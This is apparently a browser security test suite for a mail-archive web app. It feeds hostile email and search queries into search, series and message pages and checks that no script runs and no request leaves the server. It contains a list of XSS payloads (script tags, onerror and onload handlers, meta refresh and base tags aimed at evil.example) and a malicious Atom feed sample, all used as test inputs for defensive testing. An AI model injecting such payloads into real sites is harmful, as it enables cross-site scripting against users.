// Hostile mail on the pages test/browser/hostile.test.ts does not open: search results (pages that
// find every message of the hostile sample, and queries that are themselves hostile, echoed into
// the page, in every view: summary, nested, relevance, Atom, paging), the series list and every
// series page (with interdiffs, series.json and series.atom), and the message and thread pages of
// hostile cases of our own: a patch series v1/v2 whose subjects, names, cover letters, commit
// messages, trailers, file names and diffs carry markup, and replies whose trailers put hostile
// names in the series page's ledger (test/helpers/hostile.ts). In a real browser with JavaScript
// on and the Content-Security-Policy ignored (the HTML must be safe by itself): no script runs, no
// request leaves the server, no dialog opens, and the page keeps its own structure.
// hostile-pages.test.ts (npm test) opens in the browser the pages where each piece of hostile mail or
// each hostile query first shows: one search listing every case of the sample (summary, nested,
// relevance, Atom) and one listing all of ours, each hostile query and each subject holding markup
// as a query, our cases' message pages, the series pages. It reads as served the rest it checks
// (each case's own search, a third of the other views and parameters for each hostile query, in
// turn, raw text, feeds, single-message threads): over HTTP, the HTML parsed by the browser's own
// parser without running it, the Atom read as a feed reader reads it. hostile-pages.long.test.ts
// opens every one of those pages in the browser, every view of each case's own search and every
// view of each hostile query included.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Browser } from 'playwright-core';
import { ingest, type IngestSummary } from '../../src/ingest/ingest.js';
import { HeaderBlock, splitHeaderBody } from '../../src/mail/headers.js';
import { decodeWords } from '../../src/mail/codec.js';
import { midEscape, midUnescape } from '../../src/mail/message-id.js';
import type { Db } from '../../src/store/open-database.js';
import { tempDir, HOSTILE_SAMPLE } from '../helpers/paths.js';
import { readMbox } from '../helpers/mbox.js';
import type { TestServer } from '../helpers/server.js';
import {
  RecordedPage,
  RecordingContext,
  TRIPWIRE,
  cspProblems,
  fetchServed,
  servedDocument,
  structureOf,
  structureProblems,
  type ServedDocument,
  type Structure,
  type Visit,
  haveChromium,
} from '../helpers/browser.js';
import {
  hostileSeries,
  shellCases,
  writeMbox,
  findQuery,
  feedProblems,
  hostileSite,
  sendEmailCommand,
  sendEmailIn,
  Pool,
  caseOf,
  BULK,
  BULK_SAMPLE,
  SERIES_TITLE,
  AUTHOR_NAME,
  CHANGE_ID,
  type Located,
  type OwnMessage,
} from '../helpers/hostile.js';

const INBOX = 'hostile';
const SAMPLE = readMbox(HOSTILE_SAMPLE);
const OWN: OwnMessage[] = [...hostileSeries(), ...shellCases()];
const subjectOf = (raw: Buffer) =>
  decodeWords(HeaderBlock.parse(splitHeaderBody(raw).header).first('subject') ?? '')
    .replace(/\s+/g, ' ')
    .trim();
/** Tabs visiting pages at once, all in the one browser context. */
const TABS = 4;

/** Queries that are themselves hostile: the page echoes them (title, search box, notes, links). */
const HOSTILE_QUERIES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  's:<style>',
  "'><svg/onload=__lkPwned('q')>",
  '</title><script>__lkPwned(1)</script>',
  '</textarea></pre></form><form action=//evil.example/><input name=x>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/> <link rel=stylesheet href=//evil.example/q.css>',
  'javascript:__lkPwned(2)',
  'f:"<script>alert(1)</script>"',
  'd:<img/src=x>',
  '"unterminated <script>',
  '(( <b>',
  'body OR',
  '%3Cscript%3E__lkPwned(3)%3C/script%3E',
  '%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
  '\u202e<script>bidi</script>\u202c \u0430dmin',
  'nul\u0000<script>__lkPwned(6)</script>\u0001\u001b[31m',
  `${'x'.repeat(2000)}<script>long</script>`,
  's:body AND <iframe src=javascript:__lkPwned(4)>',
  '{{constructor.constructor("alert(1)")()}}',
  'line\none<script>\r\n</script>',
];
/** Every view of a search page, and parameters that are hostile too. */
const VARIANTS = [
  '',
  '&r',
  '&x=t',
  '&x=A',
  '&t=1',
  '&o=-1',
  '&l=1&o=1',
  `&x=${encodeURIComponent('<script>__lkPwned(5)</script>')}`,
  `&o=${encodeURIComponent('<script>')}&l=${encodeURIComponent('"><img src=x onerror=alert(1)>')}`,
];

/** Search pages have a second form: the mbox download buttons, posting back to the same search. */
function searchStructureProblems(s: Structure, origin: string): string[] {
  const out: string[] = [];
  const downloads = s.forms.filter((f) => f.method === 'post');
  if (downloads.length > 1) out.push(`${downloads.length} download forms: ${JSON.stringify(downloads)}`);
  for (const f of downloads) {
    let u: URL;
    try {
      u = new URL(f.action);
    } catch {
      out.push(`download form with an unreadable action: ${JSON.stringify(f)}`);
      continue;
    }
    if (u.origin !== origin || u.pathname !== `/${INBOX}/` || u.searchParams.get('x') !== 'm')
      out.push(`download form posts elsewhere: ${JSON.stringify(f)}`);
  }
  return [...out, ...structureProblems({ ...s, forms: s.forms.filter((f) => f.method !== 'post') }, origin)];
}

/**
 * The suite; `exhaustive` opens every page in the browser, else some are checked as served (see above).
 */
export function hostilePagesSuite(exhaustive: boolean): void {
  describe.skipIf(!haveChromium())(
    `hostile mail on search, series, message and thread pages in a real browser${exhaustive ? ', every page opened' : ''}`,
    () => {
      let dir: string;
      const summaries: IngestSummary[] = [];
      let db: Db;
      let server: TestServer;
      let browser: Browser;
      let closeSite: (() => Promise<void>) | undefined;
      let tabs: Pool<RecordedPage>;
      let located = new Map<number, Located>();
      const visited: Record<string, number> = {};
      const foreign: string[] = [];
      /** Atom documents a feed reader would show markup of: checked at the end, all together. */
      const feedReader: string[] = [];
      /** Search boxes that do not hold the query searched for: checked at the end, all together. */
      const echo: string[] = [];
      let started = 0;

      beforeAll(async () => {
        started = Date.now();
        dir = tempDir('lk-browser-hostile-pages-');
        summaries.push(
          await ingest({
            dataDir: dir,
            inbox: INBOX,
            address: 'list@hostile.example',
            sources: [HOSTILE_SAMPLE],
            jobs: 2,
          }),
        );
        summaries.push(
          await ingest({ dataDir: dir, inbox: INBOX, sources: [writeMbox(dir, 'own-hostile', OWN)], jobs: 2 }),
        );
        ({ db, located, server, browser, tabs, close: closeSite } = await hostileSite(dir, INBOX, SAMPLE, TABS));
      });

      afterAll(async () => {
        await closeSite?.();
        console.log(
          `hostile pages: ${JSON.stringify(visited)} (${Object.values(visited).reduce((a, b) => a + b, 0)} visits) in ${((Date.now() - started) / 1000).toFixed(1)} s`,
        );
      });

      type Kind = 'html' | 'search' | 'atom' | 'json' | 'text' | 'error';
      interface Checked {
        status: number;
        /** The document as served, when it was read rather than opened. */
        served?: ServedDocument;
        /** The body of the answer. */
        body: () => Promise<string>;
        problems: string[];
        /** What the response turned out to be. */
        kind: Kind;
      }

      /**
       * Open `path` in `tab` (or, with `open` false, read it as served: see above) and check it: the status
       * is one of `statuses`, the Content-Security-Policy is there and strict, nothing ran, nothing left
       * the server, no redirect, and by kind: HTML keeps its structure; a search page also echoes its
       * query into the search box exactly; Atom is Atom (what a feed reader would make of it goes to
       * `feedReader`); JSON is application/json.
       */
      async function check(
        tab: RecordedPage,
        path: string,
        want: Kind,
        label: string,
        statuses = [200],
        open = true,
      ): Promise<Checked> {
        const problems: string[] = [];
        let v: Visit | undefined;
        let served: ServedDocument | undefined;
        let status: number;
        let ct: string;
        let url: string;
        let body: () => Promise<string>;
        if (open) {
          v = await tab.goto(path);
          ({ status, contentType: ct, url } = v);
          body = () => v!.response.text();
          // (the browser percent-encodes what a URL must not hold, as node's URL does)
          if (v.finalUrl !== new URL(v.url).href) problems.push(`ended up at ${v.finalUrl}`);
          problems.push(...cspProblems(v.csp));
          try {
            const a = await tab.assertQuiet(`${label} ${v.url}`, { allowConsole: true });
            foreign.push(...a.foreignRequests);
            // an error status is logged by the browser, as it should be; anything else is not expected
            const logged = a.console.filter(
              (m) =>
                v!.status < 400 ||
                !m.startsWith(`error: Failed to load resource: the server responded with a status of ${v!.status} `) ||
                !m.endsWith(`@ ${v!.finalUrl}`),
            );
            if (logged.length) problems.push(`console messages: ${JSON.stringify(logged)}`);
          } catch (e) {
            problems.push((e as Error).message);
          }
          if (!statuses.includes(status)) problems.push(`HTTP ${status}`);
        } else {
          url = new URL(tab.urlOf(path)).href;
          const r = await fetchServed(url);
          ({ status, contentType: ct } = r);
          body = async () => r.body;
          served = await servedDocument(tab.page, url, r.body);
          // (the content type is checked below, by what the answer turned out to be)
          problems.push(...r.problems('', statuses));
        }
        let kind: Kind = want;
        // a search that finds nothing answers with an HTML page, whatever view was asked for
        if (want === 'atom' && ct.startsWith('text/html') && status !== 200) kind = 'search';
        if (kind === 'html' || kind === 'search') {
          if (!ct.startsWith('text/html')) problems.push(`content type ${ct}`);
          else {
            const s = await structureOf(tab.page, served);
            problems.push(
              ...(kind === 'search' ? searchStructureProblems(s, tab.origin) : structureProblems(s, tab.origin)),
            );
          }
          if (kind === 'search') {
            let q = new URL(url).searchParams.get('q') ?? '';
            const page = await tab.page.evaluate((served) => {
              const doc = served ?? document;
              return {
                shown: (doc.querySelector('input[name=q]') as HTMLInputElement | null)?.value,
                // (the text as shown: a parsed document has no layout, so its textContent)
                retried: /Warning: Initial query:/.test(served ? doc.body.textContent! : document.body.innerText),
              };
            }, served?.doc);
            const shown = page.shown;
            // a query finding nothing is retried percent-decoded (as public-inbox does), and the box
            // then holds the query used; control characters (C0 and C1) are shown visibly, as \0, ^[
            // or \x85, on purpose
            if (page.retried) q = midUnescape(q);
            // (a text input drops line breaks from its value)
            if (shown !== undefined && !/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(q) && shown !== q.replace(/[\r\n]/g, '')) {
              const vis = (x: string) =>
                JSON.stringify(x).replace(/[\x7f-\x9f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
              echo.push(`${label} ${url}: the search box shows ${vis(shown)}, not the query ${vis(q)}`);
            }
          }
        } else if (kind === 'atom') {
          if (!ct.startsWith('application/atom+xml')) problems.push(`content type ${ct}`);
          else {
            if (open) {
              const doc = await tab.page.evaluate(() => document.contentType);
              if (doc !== 'text/plain' && doc !== 'application/atom+xml' && doc !== 'text/xml')
                problems.push(`the browser made a ${doc} document of the feed`);
            }
            feedReader.push(...(await feedProblems(tab.page, await body())).map((p) => `${label} ${url}: ${p}`));
          }
        } else if (kind === 'json') {
          if (ct.split(';')[0].trim() !== 'application/json') problems.push(`content type ${ct}, not application/json`);
          if (open) {
            const doc = await tab.page.evaluate(() => document.contentType);
            if (doc !== 'application/json') problems.push(`the browser made a ${doc} document of the JSON`);
          }
          try {
            JSON.parse(await body());
          } catch (e) {
            problems.push(`not JSON: ${(e as Error).message}`);
          }
        } else if (kind === 'error') {
          if (!/^(text\/plain|application\/json)/.test(ct)) problems.push(`content type ${ct}`);
        } else if (kind === 'text') {
          if (!ct.startsWith('text/plain')) problems.push(`content type ${ct}`);
          if (open) {
            const kinds = await tab.page.evaluate(() =>
              [...document.body.querySelectorAll('*')].map((e) => e.localName).join(' '),
            );
            if (kinds !== 'pre') problems.push(`rendered as markup, not text: ${kinds.slice(0, 200)}`);
          }
        }
        const key = `${want}${path.includes('?q=') ? '(search)' : ''}${open ? '' : ' as served'}`;
        visited[key] = (visited[key] ?? 0) + 1;
        return { status, served, body, problems: problems.map((p) => `${label} ${url}: ${p}`), kind };
      }

      /** Which of these messages a page links (search results, patches of a series): the open one, or one served. */
      async function linked(tab: RecordedPage, mids: string[], served?: ServedDocument): Promise<string[]> {
        const want = mids.map((mid) => new URL(`${midEscape(mid)}/`, `${tab.origin}/${INBOX}/`).href);
        const hrefs = new Set(
          await tab.page.evaluate(
            ([doc, url]) =>
              [...(doc ?? document).querySelectorAll('a')].map(
                (a) => new URL(a.getAttribute('href') ?? '', url ?? document.baseURI).href,
              ),
            [served?.doc, served?.url] as const,
          ),
        );
        return mids.filter((_m, i) => hrefs.has(want[i]));
      }
      const links = async (tab: RecordedPage, mid: string, served?: ServedDocument) =>
        (await linked(tab, [mid], served)).length === 1;

      const q = (query: string, extra = '') => `/${INBOX}/?q=${encodeURIComponent(query)}${extra}`;

      it('has checks that notice a hostile search page and a hostile feed', async () => {
        // our payloads call the tripwire by name
        expect(TRIPWIRE).toBe('__lkPwned');
        const tab = await tabs.acquire();
        try {
          await tab.goto(`/${INBOX}/`);
          await tab.page.setContent(
            '<form action="/x"></form><form action="http://evil.example/y" method=post></form><form method=post action="/hostile/?q=a&x=m"></form><p>x</p>',
          );
          const problems = searchStructureProblems(await structureOf(tab.page), tab.origin);
          expect(problems.join('\n')).toMatch(/download forms/);
          expect(problems.join('\n')).toMatch(/posts elsewhere/);
          const evil =
            '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;img src=x&gt;</title>' +
            '<entry><title>ok &amp; fine</title><link href="javascript:alert(1)"/><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><pre style="white-space:pre-wrap"><a href="http://x/" onclick="alert(1)">x</a><img src="http://evil.example/"/></pre></div></content></entry></feed>';
          const found = (await feedProblems(tab.page, evil)).join('\n');
          for (const p of [
            '<title type="html"> holds markup',
            'link to javascript:',
            'attribute onclick',
            'element <img',
          ])
            expect(found).toContain(p);
          expect(
            await feedProblems(
              tab.page,
              '<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">a &amp;amp; b</title></feed>',
            ),
          ).toEqual([]);
        } finally {
          tabs.add(tab);
        }
      });

      it('ingested the hostile sample and our own cases, and found every message', () => {
        expect(summaries[0]).toMatchObject({ read: 569, added: 568, duplicates: 1, quarantined: 0 });
        expect(summaries[1]).toMatchObject({ read: OWN.length, added: OWN.length, duplicates: 0, quarantined: 0 });
        expect(located.size, 'sample messages found in the store').toBe(569);
        for (const m of OWN) {
          const n = db
            .prepare('SELECT count(*) AS n FROM msgid d JOIN id2num x ON x.id = d.id WHERE d.mid = ?')
            .get(m.mid) as { n: number };
          expect(n.n, `${m.name} <${m.mid}>`).toBe(1);
        }
      });

      // 1. a search that finds each message of the sample: the summary lists it; the nested view
      // (every match in full), relevance order and the Atom feed of the same search for all but the
      // 500 bulk messages, whose pages are alike
      SAMPLE.forEach((raw, i) => {
        const name = caseOf(raw, i);
        const bulk = BULK.test(name);
        // (the 493 bulk messages beside BULK_SAMPLE, plain text, only in the long run)
        if (!exhaustive && bulk && !BULK_SAMPLE.test(name)) return;
        it.concurrent(
          `search finds ${name}${bulk || !exhaustive ? '' : ' (summary, nested, relevance, Atom)'}`,
          async ({ expect }) => {
            const loc = located.get(i);
            if (!loc) throw new Error(`${name}: not in the store`);
            const query = findQuery(loc.mid, subjectOf(raw));
            if (!query) throw new Error(`${name}: no query can find <${loc.mid}>`);
            await tabs.with(async (tab) => {
              // (npm test opens the pages listing every case at once, below, and reads these as served)
              const c = await check(tab, q(query), 'search', name, [200], exhaustive);
              const problems = [...c.problems];
              if (c.status === 200 && !(await links(tab, loc.mid, c.served)))
                problems.push(`${name}: the results of ${JSON.stringify(query)} do not list <${loc.mid}>`);
              if (!bulk && exhaustive) {
                // the nested view shows each match whole (as its message page does), relevance order and
                // Atom what the summary does (npm test: every case at once, in the search below)
                problems.push(...(await check(tab, q(query, '&x=t'), 'search', name)).problems);
                problems.push(...(await check(tab, q(query, '&r'), 'search', name)).problems);
                problems.push(...(await check(tab, q(query, '&x=A'), 'atom', name)).problems);
              }
              expect(problems, problems.join('\n')).toEqual([]);
            });
          },
        );
      });

      it.concurrent(
        'one search lists every case of the sample but the bulk: summary, nested, relevance, Atom',
        async ({ expect }) => {
          // the sample's cases are dated 2 August 2021, or 1970 and 2100 (the date cases); the bulk, 3 and 4 August
          const query = 'd:..20210802 OR d:21000101..';
          const cases = SAMPLE.flatMap((raw, i) => (BULK.test(caseOf(raw, i)) ? [] : [located.get(i)!]));
          const mids = [...new Set(cases.map((l) => l.mid))];
          await tabs.with(async (tab) => {
            const problems: string[] = [];
            for (const view of ['', '&x=t', '&r']) {
              const c = await check(tab, q(query, view), 'search', `every case${view}`);
              problems.push(...c.problems);
              const listed = await linked(tab, mids);
              if (listed.length !== mids.length)
                problems.push(
                  `${JSON.stringify(query)}${view} does not list ${JSON.stringify(mids.filter((m) => !listed.includes(m)))}`,
                );
            }
            // the same search as a feed: every case an entry (a feed reader's view is checked at the end)
            problems.push(...(await check(tab, q(query, '&x=A'), 'atom', 'every case as Atom')).problems);
            expect(mids.length).toBeGreaterThan(60);
            expect(problems, problems.join('\n')).toEqual([]);
          });
        },
      );

      // 2. every distinct subject of the sample and of our own cases: searched for by its words (the
      // page lists the messages), and pasted whole into the search box (echoed: a hostile query)
      const bySubject = new Map<string, { name: string; index?: number; mid?: string }[]>();
      SAMPLE.forEach((raw, i) => {
        const s = subjectOf(raw);
        bySubject.set(s, [...(bySubject.get(s) ?? []), { name: caseOf(raw, i), index: i }]);
      });
      for (const m of OWN) {
        const s = subjectOf(Buffer.from(m.raw));
        bySubject.set(s, [...(bySubject.get(s) ?? []), { name: m.name, mid: m.mid }]);
      }
      for (const [subject, group] of bySubject) {
        const words = subject.match(/[\p{L}\p{N}_]+/gu);
        // the whole subject as the query: opened when it holds markup or quotes, else read as served
        const open = exhaustive || /[<>&"'`]/.test(subject);
        it.concurrent(
          `subject of ${group[0].name}${group.length > 1 ? ` and ${group.length - 1} more` : ''}: found by its words, echoed whole`,
          async ({ expect }) => {
            await tabs.with(async (tab) => {
              const problems: string[] = [];
              if (words) {
                // (a word longer than a URL may be is looked for by its first 200 characters)
                const query = words.map((w) => (w.length > 200 ? `s:${w.slice(0, 200)}*` : `s:${w}`)).join(' ');
                const mids = [
                  ...new Set(
                    group.map((g) => g.mid ?? located.get(g.index!)?.mid).filter((m): m is string => m !== undefined),
                  ),
                ];
                const listed = new Set<string>();
                // newest first, then oldest first: the 301 of the wide thread fill more than one page
                for (const order of ['', '&o=-1']) {
                  if (!exhaustive && order && listed.size === mids.length) continue;
                  // (the rows of its messages were opened in the summaries of section 1)
                  const c = await check(tab, q(query, order), 'search', group[0].name, [200], exhaustive);
                  problems.push(...c.problems);
                  for (const m of await linked(tab, mids, c.served)) listed.add(m);
                }
                if (listed.size < mids.length)
                  problems.push(
                    `${group[0].name}: ${JSON.stringify(query)} lists ${listed.size} of the ${mids.length} messages with that subject`,
                  );
              }
              if (subject)
                problems.push(
                  ...(
                    await check(
                      tab,
                      q(subject.slice(0, 2000)),
                      'search',
                      `${group[0].name} (subject as the query)`,
                      [200, 400, 404],
                      open,
                    )
                  ).problems,
                );
              expect(problems, problems.join('\n')).toEqual([]);
            });
          },
        );
      }

      // 3. hostile queries, in every view
      HOSTILE_QUERIES.forEach((query, n) => {
        it.concurrent(`hostile query ${n}: ${JSON.stringify(query.slice(0, 60))}`, async ({ expect }) => {
          await tabs.with(async (tab) => {
            const problems: string[] = [];
            // npm test: the summary, opened, and a third of the other views and parameters as served, in
            // turn (every view meets seven or eight of the queries); the long run: every view, opened
            const views = VARIANTS.filter((extra, v) => exhaustive || extra === '' || v % 3 === n % 3);
            for (const extra of views) {
              const kind = extra === '&x=A' ? 'atom' : 'search';
              const open = exhaustive || extra === '';
              problems.push(
                ...(await check(tab, q(query, extra), kind, `hostile query ${n}${extra}`, [200, 400, 404], open))
                  .problems,
              );
            }
            expect(problems, problems.join('\n')).toEqual([]);
          });
        });
      });

      it.concurrent('an over-long query is refused, with the headers every response carries', async ({ expect }) => {
        await tabs.with(async (tab) => {
          // longer than the 8 KiB of URL the app reads, and than the 16 KiB of headers node reads
          const problems: string[] = [];
          for (const n of [9000, 20000]) {
            problems.push(
              ...(
                await check(
                  tab,
                  q(`<script>__lkPwned('long')</script>${'x'.repeat(n)}`),
                  'error',
                  `query of ${n} characters`,
                  [414, 431],
                )
              ).problems,
            );
          }
          expect(problems, problems.join('\n')).toEqual([]);
        });
      });

      // 4. our own cases: every message's page, both thread views, raw text, thread feed, and the
      // search that finds it
      for (const m of OWN) {
        // a thread's pages are the same from each of its messages: opened from its first message (in npm
        // test, of the threads of more than one message: the series' cover letters)
        const root = !/^In-Reply-To:/im.test(m.raw.slice(0, m.raw.indexOf('\n\n')));
        const threadOpened = exhaustive || (root && m.name.startsWith('series-'));
        const cover = /^series-v\d+-cover$/.test(m.name);
        it.concurrent(`${m.name}: message, thread, raw, t.atom and search pages`, async ({ expect }) => {
          const base = `/${INBOX}/${midEscape(m.mid)}/`;
          await tabs.with(async (tab) => {
            const problems: string[] = [];
            let c = await check(tab, base, 'html', m.name);
            problems.push(...c.problems);
            if (c.status === 200) {
              const { text, reply } = await tab.page.evaluate(() => ({
                text: document.body.innerText,
                reply: (document.querySelector('pre#R') as HTMLElement | null)?.innerText ?? '',
              }));
              // what a reader copies is what test/clients/send-email-shell.test.ts pastes: the command
              // decoded from the served HTML
              const copied = sendEmailIn(reply);
              const decoded = sendEmailCommand(await c.body());
              if (!decoded || copied !== decoded)
                problems.push(
                  `${m.name}: the reply command chromium shows is ${JSON.stringify(copied)}, decoded from the HTML ${JSON.stringify(decoded)}`,
                );
              // shown as text, not dropped: the subject is on the page as written
              const subject = subjectOf(Buffer.from(m.raw)).replace(/[\x00-\x1f\x7f]/g, '');
              const shown = text.replace(/\s+/g, ' ').replace(/[\x00-\x1f\x7f]/g, '');
              if (m.patch && !shown.includes(subject.slice(0, 200).replace(/\s+/g, ' ')))
                problems.push(`${m.name}: the page does not show the subject ${JSON.stringify(subject.slice(0, 80))}`);
            }
            for (const t of ['T/', 't/'])
              problems.push(...(await check(tab, `${base}${t}`, 'html', m.name, [200], threadOpened)).problems);
            problems.push(...(await check(tab, `${base}raw`, 'text', m.name, [200], exhaustive)).problems);
            problems.push(...(await check(tab, `${base}t.atom`, 'atom', m.name, [200], exhaustive)).problems);
            const query = findQuery(m.mid, subjectOf(Buffer.from(m.raw)));
            if (query) {
              // (npm test opens the page listing all our cases at once, below, and reads these as served)
              c = await check(tab, q(query), 'search', m.name, [200], exhaustive);
              problems.push(...c.problems);
              if (c.status === 200 && !(await links(tab, m.mid, c.served)))
                problems.push(`${m.name}: the results of ${JSON.stringify(query)} do not list <${m.mid}>`);
              problems.push(...(await check(tab, q(query, '&x=t'), 'search', m.name, [200], exhaustive)).problems);
              problems.push(...(await check(tab, q(query, '&x=A'), 'atom', m.name, [200], exhaustive)).problems);
            }
            if (m.name.startsWith('series-')) {
              // any message of a series (or a reply in its thread) names the series (opened from the cover)
              problems.push(
                ...(await check(tab, `${base}series/`, 'html', m.name, [200], exhaustive || cover)).problems,
              );
            }
            expect(problems, problems.join('\n')).toEqual([]);
          });
        });
      }

      it.concurrent('one search lists every one of our cases: summary and nested', async ({ expect }) => {
        // (all of them are dated 1 June 2023)
        const query = 'd:20230601';
        const mids = OWN.map((m) => m.mid);
        await tabs.with(async (tab) => {
          const problems: string[] = [];
          for (const view of ['', '&x=t']) {
            problems.push(...(await check(tab, q(query, view), 'search', `our cases${view}`)).problems);
            const listed = await linked(tab, mids);
            if (listed.length !== mids.length)
              problems.push(
                `${JSON.stringify(query)}${view} does not list ${JSON.stringify(mids.filter((m) => !listed.includes(m)))}`,
              );
          }
          expect(problems, problems.join('\n')).toEqual([]);
        });
      });

      // 5. the series pages
      it.concurrent('the series list, with and without a hostile ?t=, and the inbox feed', async ({ expect }) => {
        await tabs.with(async (tab) => {
          const problems: string[] = [];
          problems.push(...(await check(tab, `/${INBOX}/series/`, 'html', 'series list')).problems);
          const text = await tab.page.evaluate(() => document.body.innerText);
          for (const v of ['v1', 'v2'])
            if (!text.replace(/\s+/g, ' ').includes(`[${v}] ${SERIES_TITLE}`))
              problems.push(`the series list does not show our ${v}`);
          problems.push(
            ...(
              await check(
                tab,
                `/${INBOX}/series/?t=${encodeURIComponent('<script>alert(1)</script>')}`,
                'html',
                'series list ?t=',
              )
            ).problems,
          );
          problems.push(...(await check(tab, `/all/series/`, 'html', 'series list of /all/')).problems);
          problems.push(...(await check(tab, `/${INBOX}/new.atom`, 'atom', 'the inbox feed')).problems);
          expect(problems, problems.join('\n')).toEqual([]);
        });
      });

      it.concurrent(
        'every series of the inbox: page, every interdiff, series.json and series.atom',
        async ({ expect }) => {
          const rows = db
            .prepare(
              `SELECT s.id AS id, s.version AS version, s.chain AS chain, m.mid AS mid FROM series s JOIN msg m ON m.num = s.first_num
       JOIN inbox i ON i.id = s.inbox_id WHERE i.name = ? ORDER BY s.id`,
            )
            .all(INBOX) as { id: number; version: number; chain: number; mid: string }[];
          expect(rows.length, 'series in the inbox').toBeGreaterThanOrEqual(4);
          const problems: string[] = [];
          await Promise.all(
            rows.map((s) =>
              tabs.with(async (tab) => {
                const base = `/${INBOX}/${midEscape(s.mid)}/`;
                const label = `series ${s.id} (v${s.version}) <${s.mid}>`;
                problems.push(...(await check(tab, `${base}series/`, 'html', label)).problems);
                const earlier = rows.filter((o) => o.chain === s.chain && o.version < s.version).map((o) => o.version);
                for (const vs of [...new Set(earlier)]) {
                  const c = await check(tab, `${base}series/?vs=${vs}`, 'html', `${label} ?vs=${vs}`);
                  problems.push(...c.problems);
                  if (!(await tab.page.locator('pre#interdiff').count()))
                    problems.push(`${label} ?vs=${vs}: no interdiff`);
                }
                problems.push(
                  ...(
                    await check(
                      tab,
                      `${base}series/?vs=${encodeURIComponent('1<script>')}`,
                      'html',
                      `${label} ?vs=hostile`,
                    )
                  ).problems,
                );
                problems.push(...(await check(tab, `${base}series.json`, 'json', label)).problems);
                problems.push(...(await check(tab, `${base}series.atom`, 'atom', label, [200], exhaustive)).problems);
              }),
            ),
          );
          expect(problems, problems.join('\n')).toEqual([]);
        },
      );

      it.concurrent(
        'our series: v2 shows the hostile title, author, change-id and ledger as text, chained to v1',
        async ({ expect }) => {
          await tabs.with(async (tab) => {
            const v2 = `/${INBOX}/${midEscape('hs-v2-0.x@series.hostile.example')}/`;
            const c = await check(tab, `${v2}series/?vs=1`, 'html', 'our series v2');
            expect(c.problems, c.problems.join('\n')).toEqual([]);
            const text = (await tab.page.evaluate(() => document.body.innerText)).replace(/[ \t]+/g, ' ');
            for (const shown of [
              SERIES_TITLE,
              AUTHOR_NAME,
              `change-id: ${CHANGE_ID}`,
              `<script>__lkPwned('reviewed')</script> <rev1@series.hostile.example>`,
              `"><img src=x onerror=__lkPwned('acked')> <acker@series.hostile.example>`,
              'unchanged since v1',
              'Interdiff v1 .. v2',
            ]) {
              expect(text, `the page shows ${JSON.stringify(shown)}`).toContain(shown.replace(/[ \t]+/g, ' '));
            }
            // the ledger: one row per reviewer, hostile names as text; the carried review on patch 3
            const ledger = await tab.page.evaluate(() =>
              [...document.querySelectorAll('table.series tr')].map((tr) => (tr as HTMLElement).innerText.split('\t')),
            );
            expect(ledger.length, 'ledger rows').toBeGreaterThanOrEqual(10);
            expect(ledger.find((r) => r[0].includes('rev3@'))?.slice(1)).toEqual(['.', '.', 'Rc']);
            expect(ledger.find((r) => r[0].startsWith('Tester '))?.slice(1)).toEqual(['T', 'T', 'T']);
            for (const counter of [1, 2, 3])
              expect(
                await links(tab, `hs-v2-${counter}.${counter === 2 ? "&amp;'quote" : 'x'}@series.hostile.example`),
                `patch ${counter} linked`,
              ).toBe(true);
            await tab.goto(`${v2}series.json`);
            const json = JSON.parse(await tab.page.evaluate(() => document.body.innerText)) as {
              title: string;
              versions: { version: number; changeId: string; author: { name: string } }[];
            };
            expect(json.title).toBe(SERIES_TITLE);
            expect(json.versions.map((v) => v.version)).toEqual([1, 2]);
            expect(json.versions[1].changeId).toBe(CHANGE_ID);
            expect(json.versions[1].author.name).toBe(AUTHOR_NAME);
          });
        },
      );

      describe('after every page', () => {
        it('with the Content-Security-Policy enforced, our pages and the hostile queries do not even try', async () => {
          // an ordinary browser: a blocked script, style or load would show as a CSP console error
          const plain = await RecordingContext.open(browser, server.url);
          try {
            const pages = new Pool<RecordedPage>();
            for (let i = 0; i < TABS; i++) pages.add(await plain.newPage());
            // (npm test: every hostile query, the series pages, and the searches that show every case of the
            // sample and of our own whole, in the nested view; the long run: every page of each)
            const paths: string[] = [q('d:..20210802 OR d:21000101..', '&x=t'), q('d:20230601', '&x=t')];
            if (exhaustive)
              for (const m of OWN) paths.push(`/${INBOX}/${midEscape(m.mid)}/`, `/${INBOX}/${midEscape(m.mid)}/T/`);
            for (const v of [1, 2])
              paths.push(
                `/${INBOX}/${midEscape(`hs-v${v}-0.x@series.hostile.example`)}/series/${v === 2 ? '?vs=1' : ''}`,
              );
            paths.push(`/${INBOX}/series/`);
            for (const query of HOSTILE_QUERIES) paths.push(q(query), ...(exhaustive ? [q(query, '&x=t')] : []));
            for (const [i, raw] of SAMPLE.entries()) {
              const name = caseOf(raw, i);
              const query = findQuery(located.get(i)!.mid, subjectOf(raw));
              if (exhaustive && name.startsWith('xss-') && query) paths.push(q(query, '&x=t'));
            }
            const problems: string[] = [];
            await Promise.all(
              paths.map((p) =>
                pages.with(async (page) => {
                  const v = await page.goto(p);
                  const a = await page.assertQuiet(page.urlOf(p), { allowConsole: true });
                  const logged = a.console.filter(
                    (m) =>
                      !/^error: Failed to load resource: the server responded with a status of (400|404) /.test(m) ||
                      !m.endsWith(`@ ${v.finalUrl}`),
                  );
                  if (logged.length) problems.push(`${v.url}: console messages: ${JSON.stringify(logged)}`);
                }),
              ),
            );
            expect(problems, problems.join('\n')).toEqual([]);
            visited['html(CSP enforced)'] = paths.length;
          } finally {
            await plain.close();
          }
        });

        it('made every visit, and no request left the server', () => {
          const both = (key: string) => (visited[key] ?? 0) + (visited[`${key} as served`] ?? 0);
          // (npm test: each case's summary, the subjects, the hostile queries; the long run: every view of each)
          expect(both('search(search)'), 'search pages').toBeGreaterThan(exhaustive ? 569 + 3 * 69 : 76 + 69 + 22);
          expect(both('atom(search)'), 'search feeds').toBeGreaterThanOrEqual(exhaustive ? 69 : 1);
          if (exhaustive) expect(Object.keys(visited).filter((k) => k.endsWith(' as served'))).toEqual([]);
          expect(foreign, 'requests that left the server').toEqual([]);
        });

        it('every search box holds the query searched for, as typed', () => {
